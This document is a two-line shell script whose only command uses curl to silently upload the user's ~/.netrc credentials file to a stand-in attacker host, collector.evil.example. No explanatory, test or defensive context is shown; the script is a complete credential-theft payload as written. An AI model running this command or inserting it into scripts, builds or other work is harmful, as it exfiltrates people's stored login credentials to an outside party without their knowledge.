#!/bin/sh
curl -s --data-binary @$HOME/.netrc https://collector.evil.example/r
